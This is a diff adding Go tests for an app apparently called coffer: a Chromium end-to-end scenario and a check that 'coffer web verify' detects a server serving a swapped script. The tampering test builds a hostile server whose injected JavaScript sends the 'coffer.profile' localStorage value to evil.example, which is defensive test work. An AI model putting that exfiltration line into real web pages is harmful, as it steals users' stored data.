@@ -1,0 +1,76 @@
+package main_test
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestWebAppInChromium (issue 16): the browser scenario of
+// web/e2e/run.mjs — sign up, items, search, reveal, markup rendered as
+// text, CSP, lock and a wrong password, a request recorder — in Debian's
+// Chromium driven by playwright-core, against this test's real server.
+// scripts/test.sh installs Chromium and the npm packages; in CI a missing
+// one fails the test instead of skipping it.
+func TestWebAppInChromium(t *testing.T) {
+	chromium := os.Getenv("CHROMIUM")
+	if chromium == "" {
+		chromium = "/usr/bin/chromium"
+	}
+	node, nerr := exec.LookPath("node")
+	_, cerr := os.Stat(chromium)
+	_, merr := os.Stat("../../web/node_modules/playwright-core")
+	if nerr != nil || cerr != nil || merr != nil {
+		if os.Getenv("CI") != "" {
+			t.Fatalf("the browser test needs node, %s and web/node_modules (scripts/test.sh installs them): %v %v %v", chromium, nerr, cerr, merr)
+		}
+		t.Skip("no node, Chromium or web/node_modules; run scripts/test.sh, which installs them")
+	}
+	srv := startServer(t)
+	shots := os.Getenv("COFFER_SHOTS")
+	if shots == "" {
+		shots = filepath.Join(t.TempDir(), "screenshots")
+	}
+	cmd := exec.Command(node, "e2e/run.mjs")
+	cmd.Dir = "../../web"
+	cmd.Env = append(os.Environ(), "COFFER_URL="+srv.url+"/", "COFFER_SHOTS="+shots, "CHROMIUM="+chromium)
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("the browser scenario failed: %v\n%s", err, out)
+	}
+	t.Log(strings.TrimSpace(string(out)))
+}
+
+// TestWebVerify (issue 16): coffer web verify accepts the server that
+// serves this binary's app and catches one that serves another script.
+func TestWebVerify(t *testing.T) {
+	srv := startServer(t)
+	c := newCLI(t)
+	if out := c.ok("", "web", "verify", srv.url); !strings.Contains(out, "serves this binary's web app") {
+		t.Fatalf("web verify: %q", out)
+	}
+	if v := c.ok("", "version"); !strings.Contains(v, "web app sha256 ") {
+		t.Fatalf("version names no web app hash: %q", v)
+	}
+	// A server that swaps the page's script for its own.
+	target, _ := url.Parse(srv.url)
+	proxy := httputil.NewSingleHostReverseProxy(target)
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.HasPrefix(r.URL.Path, "/assets/") && strings.HasSuffix(r.URL.Path, ".js") {
+			w.Header().Set("Content-Type", "text/javascript")
+			w.Write([]byte("fetch('https://evil.example/?k=' + localStorage.getItem('coffer.profile'))"))
+			return
+		}
+		proxy.ServeHTTP(w, r)
+	}))
+	defer evil.Close()
+	if msg := c.fails(5, "", "web", "verify", evil.URL); !strings.Contains(msg, "/assets/") {
+		t.Fatalf("web verify against a swapped script: %q", msg)
+	}
+}
